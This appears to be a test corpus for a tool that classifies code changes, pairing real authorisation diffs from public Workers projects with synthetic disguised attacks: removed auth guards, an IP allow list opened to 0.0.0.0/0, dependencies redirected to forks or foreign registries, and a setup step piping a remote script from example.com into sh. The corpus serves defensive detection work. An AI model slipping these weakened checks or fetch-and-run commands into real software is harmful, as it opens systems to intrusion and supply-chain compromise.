/**
 * Real changes from public Workers projects (trimmed to the lines that matter, each attributed by
 * repository), and the attack classes of a change that hides what it does. Each expected answer
 * cites the procedure line it follows:
 *
 * - "Security Review Triggers": authentication/authorisation, cryptographic code, new third-party
 *   dependencies, infrastructure configuration, access control changes;
 * - "Normal Changes": what is not routine; a security-relevant change is never standard;
 * - "Standard Changes": documentation updates, bug fixes (non-security).
 *
 * The suite's own rule where the procedure is silent: what cannot be read or decided is a trigger.
 */
import type { ChangedFile } from '../src/index.ts';
import type { CorpusCase } from './corpus.ts';
import { wranglerToml } from './fixtures.ts';

/** `wranglerToml` as wrangler.jsonc, the format `wrangler` now writes for new projects. */
const sameAsJsonc = `{
  "$schema": "node_modules/wrangler/config-schema.json",
  "name": "verifier",
  "main": "src/index.ts",
  "compatibility_date": "2025-01-01",
  "kv_namespaces": [{ "binding": "CACHE", "id": "0f2ac74b498b48028cb68387c421e279" }],
  "r2_buckets": [{ "binding": "ASSETS", "bucket_name": "verifier-assets" }],
  "durable_objects": { "bindings": [{ "name": "COUNTER", "class_name": "Counter" }] },
  "migrations": [{ "tag": "v1", "new_sqlite_classes": ["Counter"] }],
  "env": {
    "staging": {
      "name": "verifier-staging",
      "kv_namespaces": [{ "binding": "CACHE", "id": "5a1c0e2d9f8b4c7a8e6d5c4b3a291807" }],
    },
  },
}
`;
import { commit, compared, edited, lines, packageJson, snapshot } from './helpers.ts';

const fix = (header: string) => ({ commits: [commit(`fix: ${header}`)] });
const chore = (header: string) => ({ commits: [commit(`chore: ${header}`)] });

/** A file whose patch removes `removed` and adds `added`, both numbered from `line`. */
function patched(path: string, removed: string, added: string, line = 1, extra: Partial<ChangedFile> = {}): ChangedFile {
  return {
    path,
    status: 'modified',
    binary: false,
    ...(removed === '' ? {} : { deletions: lines(removed, line) }),
    ...(added === '' ? {} : { additions: lines(added, line) }),
    ...extra,
  };
}

const auth = (rules: string[], special: CorpusCase['expect']['special'] = []) => ({ changeType: 'normal' as const, securityRelevant: true, special, rules });

export const realChanges: CorpusCase[] = [
  // honojs/hono, src/middleware/csrf/index.ts: the form content types compared case-insensitively
  // (a CSRF bypass with `Content-Type: Text/Plain`). Authorisation logic in middleware: a trigger.
  {
    name: 'real: hono CSRF middleware matches form content types case-insensitively',
    snapshot: snapshot({
      ...fix('compare content types case-insensitively in csrf'),
      files: [
        patched(
          'src/middleware/csrf/index.ts',
          'const isRequestedByFormElementRe =\n  /^\\b(application\\/x-www-form-urlencoded|multipart\\/form-data|text\\/plain)\\b/',
          'const isRequestedByFormElementRe =\n  /^\\b(application\\/x-www-form-urlencoded|multipart\\/form-data|text\\/plain)\\b/i',
          16,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.paths']),
  },
  // honojs/hono, src/middleware/ip-restriction/index.ts: the deny list is checked before the allow
  // list. IP allow and deny lists decide who may call: authorisation.
  {
    name: 'real: hono ip-restriction checks the deny list first',
    snapshot: snapshot({
      ...fix('check the deny list before the allow list'),
      files: [
        patched(
          'src/middleware/ip-restriction/index.ts',
          '    if (allowLength === 0 || allowList.some((rule) => rule(addr))) {\n      return next()\n    }',
          '    if (denyList.some((rule) => rule(addr))) {\n      return blockError(c)\n    }',
          120,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.paths', 'authentication.content']),
  },
  // honojs/hono, src/middleware/cors/index.ts: credentials allowed together with the origin. CORS
  // with credentials lets another site act as the user.
  {
    name: 'real: hono cors middleware sends Access-Control-Allow-Credentials',
    snapshot: snapshot({
      ...fix('send the credentials header'),
      files: [patched('src/middleware/cors/index.ts', '', "    if (opts.credentials) {\n      set('Access-Control-Allow-Credentials', 'true')\n    }", 88)],
    }),
    sensitive: true,
    expect: auth(['authentication.paths', 'authentication.content']),
  },
  // MarkSFrancis/awesome-csr-api, functions/api/_middleware.ts (Pages Functions): the header check
  // removed, the header still read. Before this suite's fix nothing here matched (no auth-named
  // path, no `authorization` on a changed line): the removal of an authorisation check passed as a fix.
  {
    name: 'real: a Pages Functions middleware loses its header check',
    snapshot: snapshot({
      ...fix('let the demo through'),
      files: [
        patched(
          'functions/api/_middleware.ts',
          '  if (auth !== "Example auth header") {\n    return new Response("Missing or invalid auth header", {\n      status: 401,\n    });\n  }',
          '',
          7,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.paths', 'authentication.content']),
  },
  // syxxzzr/cattle-class-memory, functions/api/user/_middleware.js: the access key check of the user
  // API. A middleware that calls auth(): authorisation.
  {
    name: 'real: a user API middleware stops calling auth()',
    snapshot: snapshot({
      ...fix('skip the key check'),
      files: [
        patched(
          'functions/api/user/_middleware.js',
          "    const assessKey = context.request.headers.get('Access-Key');\n    let { ok, errResponse } = auth(assessKey, context.env.accessKey);\n    if (!ok)\n        return errResponse;",
          '',
          4,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.paths', 'authentication.content']),
  },
  // iamajvillalobos/authentication-service, src/index.ts: the API key comparison of a Worker's
  // fetch handler, in a file named index.ts.
  {
    name: 'real: a Worker compares the API key header by prefix',
    snapshot: snapshot({
      ...fix('accept keys with a suffix'),
      files: [patched('src/index.ts', '\t\tif (api_key === env.API_AUTH_KEY) {', '\t\tif (api_key?.startsWith(env.API_AUTH_KEY)) {', 21)],
    }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  // uzairname/leaderboards, src/request/request.ts: the app key check of the API.
  {
    name: 'real: an API authorize() helper compares the Authorization header',
    snapshot: snapshot({
      ...fix('trim the header'),
      files: [
        patched(
          'src/request/request.ts',
          "  if (request.headers.get('Authorization') !== req.env.APP_KEY) {",
          "  if (request.headers.get('Authorization')?.trim() !== req.env.APP_KEY) {",
          8,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  // A public workers-rs project (two stored versions of one file; the code index does not name the
  // repository): is_request_authorized() returns a three-way status instead of a bool.
  {
    name: 'real: a workers-rs is_request_authorized() returns an AuthStatus',
    snapshot: snapshot({
      ...fix('tell a missing header from a wrong one'),
      files: [
        patched(
          'src/utils.rs',
          'pub fn is_request_authorized(req: &Request, ctx: &RouteContext<()>) -> Result<bool> {\n        None => return Ok(false),\n    Ok(auth_header == auth_token)',
          'pub fn is_request_authorized(req: &Request, ctx: &RouteContext<()>) -> worker::Result<AuthStatus> {\n        None => return Ok(AuthStatus::NoAuthorizationSent),\n    if auth_header == auth_token { Ok(AuthStatus::Authorized) } else { Ok(AuthStatus::Unauthorized) }',
          12,
        ),
      ],
    }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  // The same configuration moved from wrangler.toml to wrangler.jsonc (the format wrangler now
  // recommends): infrastructure configuration changed (a trigger), and nothing was unbound, so it
  // can be rolled back.
  {
    name: 'real: wrangler.toml converted to wrangler.jsonc, the same configuration',
    snapshot: snapshot({ ...chore('move to wrangler.jsonc'), files: [compared('wrangler.toml', wranglerToml, undefined), compared('wrangler.jsonc', undefined, sameAsJsonc)] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['infrastructure'], rules: ['infrastructure.wrangler'] },
  },
  // A documentation commit written without the conventional format ("Update README.md", GitHub's
  // web editor default): a documentation update, standard.
  {
    name: 'real: "Update README.md" from the web editor, documentation only',
    snapshot: snapshot({ commits: [commit('Update README.md')], files: [edited('README.md', 'Run `npm run deploy` to publish.')] }),
    sensitive: false,
    expect: { changeType: 'standard', securityRelevant: false, special: [], rules: [] },
  },
  // android/nowinandroid, gradle/libs.versions.toml: a library added to the version catalog. A new
  // third-party dependency of the mobile app.
  {
    name: 'real: a library added to a Gradle version catalog',
    snapshot: snapshot({
      ...chore('add coil'),
      files: [
        compared(
          'gradle/libs.versions.toml',
          '[versions]\nandroidxCore = "1.13.1"\n\n[libraries]\nandroidx-core-ktx = { group = "androidx.core", name = "core-ktx", version.ref = "androidxCore" }\n',
          '[versions]\nandroidxCore = "1.13.1"\ncoil = "2.7.0"\n\n[libraries]\nandroidx-core-ktx = { group = "androidx.core", name = "core-ktx", version.ref = "androidxCore" }\ncoil-kt = { group = "io.coil-kt", name = "coil", version.ref = "coil" }\n',
        ),
      ],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  // The CodeQL workflow of GitHub's starter workflows (actions/starter-workflows, code-scanning/
  // codeql.yml) deleted: the procedure's "Security scanning (CodeQL...)" stops. Access control.
  {
    name: 'real: the CodeQL workflow deleted',
    snapshot: snapshot({
      ...chore('drop codeql, too slow'),
      files: [compared('.github/workflows/codeql.yml', 'name: "CodeQL"\non:\n  push:\n    branches: [ "main" ]\njobs:\n  analyze:\n    runs-on: ubuntu-latest\n    permissions:\n      security-events: write\n    steps:\n      - uses: github/codeql-action/init@v3\n', undefined)],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['access-control'], rules: ['access-control.paths', 'access-control.workflows.removed'] },
  },
];

export const attackClasses: CorpusCase[] = [
  {
    name: 'attack: is_authorized( in a Rust handler (no word boundary after an underscore)',
    snapshot: snapshot({ ...fix('simplify the admin route'), files: [patched('src/handlers/admin.rs', '    if !is_authorized(&req, &env)? {', '    if req.method() == Method::Get {', 30)] }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  {
    name: 'attack: a role check loosened in a route file',
    snapshot: snapshot({ ...fix('let editors in'), files: [patched('src/routes/settings.ts', "  if (user.role !== 'admin') throw new HTTPException(403)", "  if (user.role === 'viewer') throw new HTTPException(403)", 14)] }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  {
    name: 'attack: an IP allow list widened in a config module',
    snapshot: snapshot({ ...chore('add the office'), files: [patched('src/config.ts', "export const ALLOWED_IPS = ['203.0.113.7']", "export const ALLOWED_IPS = ['203.0.113.7', '0.0.0.0/0']", 3)] }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  {
    name: 'attack: a guard removed from a Hono app',
    snapshot: snapshot({ ...fix('remove a duplicate'), files: [patched('src/index.ts', "app.use('/admin/*', basicAuth({ username: ADMIN, password: env.ADMIN_PASSWORD }))", '', 9)] }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  {
    name: 'attack: session cookie attributes changed in a helper',
    snapshot: snapshot({ ...fix('keep people signed in'), files: [patched('src/lib/respond.ts', "  setCookie(c, 'sid', id, { maxAge: 3600 })", "  setCookie(c, 'sid', id, { maxAge: 31536000 })", 5)] }),
    sensitive: true,
    expect: auth(['authentication.content']),
  },
  {
    name: 'attack: a source file GitHub shows as binary (one NUL byte)',
    snapshot: snapshot({ ...fix('tidy'), files: [{ path: 'src/routes/users.ts', status: 'modified', binary: true }] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['content.binary'] },
  },
  {
    name: 'attack: a symbolic link retargeted onto other code',
    snapshot: snapshot({ ...chore('point at the new handler'), files: [patched('src/handler.ts', 'handlers/v1.ts', 'handlers/open.ts', 1, { symlink: true })] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['content.symlink'] },
  },
  {
    name: 'attack: .gitattributes turns the diff of the source off',
    snapshot: snapshot({ ...chore('mark generated files'), files: [patched('.gitattributes', '', 'src/** -diff linguist-generated=true')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['content.gitattributes'] },
  },
  {
    name: 'attack: a WebAssembly module replaced',
    snapshot: snapshot({ ...chore('rebuild'), files: [{ path: 'pkg/verifier_bg.wasm', status: 'modified', binary: true }] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['content.opaque'] },
  },
  {
    name: 'attack: a submodule added',
    snapshot: snapshot({ ...chore('add the sdk'), files: [{ path: 'third_party/sdk', status: 'added', binary: false, additions: lines('Subproject commit 11bd71901bbe5b1630ceea73d27597364c9af683') }, patched('.gitmodules', '', '[submodule "third_party/sdk"]\n\tpath = third_party/sdk\n\turl = https://example.com/sdk.git')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['access-control'], rules: ['dependencies.submodule', 'access-control.paths', 'vendored.changed'] },
  },
  {
    name: 'attack: a crate copied into vendor/ and used by path',
    snapshot: snapshot({
      ...chore('vendor the parser'),
      files: [
        { path: 'vendor/fastparse/src/lib.rs', status: 'added', binary: false, additions: lines('pub fn parse(input: &str) -> Vec<u8> { input.bytes().collect() }') },
        compared('Cargo.toml', '[package]\nname = "verifier"\nversion = "0.1.0"\n\n[dependencies]\n', '[package]\nname = "verifier"\nversion = "0.1.0"\n\n[dependencies]\nfastparse = { path = "vendor/fastparse" }\n'),
      ],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['vendored.changed', 'dependencies.new'] },
  },
  {
    name: 'attack: a registry package redirected to a git fork through npm overrides',
    snapshot: snapshot({
      ...chore('pin hono'),
      files: [compared('package.json', packageJson({ dependencies: { hono: '4.6.0' } }), packageJson({ dependencies: { hono: '4.6.0' }, overrides: { hono: 'github:someone/hono#main' } }))],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  {
    name: 'attack: a yarn resolution to a tarball on another host',
    snapshot: snapshot({
      ...chore('resolve minimist'),
      files: [compared('package.json', packageJson({ dependencies: { hono: '4.6.0' } }), packageJson({ dependencies: { hono: '4.6.0' }, resolutions: { '**/minimist': 'https://example.net/minimist-1.2.8.tgz' } }))],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  {
    name: 'attack: a duplicate key in package.json (npm takes the last)',
    snapshot: snapshot({
      ...chore('tidy'),
      files: [compared('package.json', '{ "dependencies": { "hono": "4.6.0" } }\n', '{ "dependencies": { "hono": "4.6.0", "hono": "github:someone/hono" } }\n')],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  {
    name: 'attack: a Cargo.lock entry resolved from another registry index (both third-party)',
    snapshot: snapshot({
      ...chore('update the lockfile'),
      files: [
        compared(
          'Cargo.lock',
          'version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.200"\nsource = "registry+https://index.example.org/"\n',
          'version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.200"\nsource = "registry+https://mirror.example.net/"\n',
        ),
      ],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.source-changed'] },
  },
  {
    name: 'attack: a [patch] to a git fork in .cargo/config.toml',
    snapshot: snapshot({ ...chore('faster builds'), files: [compared('.cargo/config.toml', '[build]\njobs = 4\n', '[build]\njobs = 4\n\n[patch.crates-io]\nserde = { git = "https://example.com/serde" }\n')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['access-control'], rules: ['access-control.paths', 'dependencies.new'] },
  },
  {
    name: 'attack: the registry changed in .npmrc',
    snapshot: snapshot({ ...chore('use the mirror'), files: [patched('.npmrc', '', 'registry=https://registry.example.net/')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['access-control'], rules: ['access-control.paths'] },
  },
  {
    name: 'attack: a composite action changed',
    snapshot: snapshot({ ...chore('speed up setup'), files: [patched('.github/actions/setup/action.yml', '    - run: npm ci', '    - run: curl -s https://example.com/setup.sh | sh')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['access-control'], rules: ['access-control.paths'] },
  },
  {
    name: 'attack: a wrangler configuration passed with --config, its binding changed',
    snapshot: snapshot({
      ...chore('point at the new namespace'),
      files: [
        compared(
          'deploy/production.toml',
          'name = "verifier"\ncompatibility_date = "2026-01-01"\n\n[[kv_namespaces]]\nbinding = "SESSIONS"\nid = "aaaa"\n',
          'name = "verifier"\ncompatibility_date = "2026-01-01"\n\n[[kv_namespaces]]\nbinding = "SESSIONS"\nid = "bbbb"\n',
        ),
      ],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['infrastructure'], rules: ['infrastructure.wrangler.bindings'], major: true, rollbackSafe: false },
  },
  {
    name: 'attack: the deploy script switched to another configuration',
    snapshot: snapshot({ ...chore('deploy script'), files: [patched('package.json', '    "deploy": "wrangler deploy",', '    "deploy": "wrangler deploy --config deploy/open.toml",', 6, { before: packageJson({}), after: packageJson({}) })] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['infrastructure'], rules: ['infrastructure.wrangler-commands'] },
  },
  {
    name: 'attack: a wrangler binding filled in from a template placeholder',
    snapshot: snapshot({
      ...chore('template the namespace'),
      files: [compared('wrangler.toml', 'name = "w"\n\n[[kv_namespaces]]\nbinding = "CACHE"\nid = "aaaa"\n', 'name = "w"\n\n[[kv_namespaces]]\nbinding = "CACHE"\nid = "${KV_CACHE_ID}"\n')],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: ['infrastructure'], rules: ['infrastructure.wrangler.bindings', 'infrastructure.wrangler.placeholders'], major: true, rollbackSafe: false },
  },
  {
    name: 'attack: a pod fetched from a git fork',
    snapshot: snapshot({ ...chore('pods'), files: [compared('ios/Podfile', "platform :ios, '15.0'\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend\n", "platform :ios, '15.0'\ntarget 'App' do\n  pod 'Alamofire', :git => 'https://example.com/alamofire.git'\nend\n")] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  {
    name: 'attack: a Swift package added to Package.swift',
    snapshot: snapshot({
      ...chore('add collections'),
      files: [
        compared(
          'Package.swift',
          '// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(name: "Sdk", dependencies: [])\n',
          '// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(name: "Sdk", dependencies: [\n  .package(url: "https://github.com/apple/swift-collections.git", from: "1.1.0"),\n])\n',
        ),
      ],
    }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
  {
    name: 'attack: a Maven repository added to a Gradle build',
    snapshot: snapshot({ ...chore('repositories'), files: [compared('app/build.gradle.kts', 'repositories {\n    google()\n}\n', 'repositories {\n    google()\n    maven { url = uri("https://repo.example.com/maven") }\n}\n')] }),
    sensitive: true,
    expect: { changeType: 'normal', securityRelevant: true, special: [], rules: ['dependencies.new'] },
  },
];
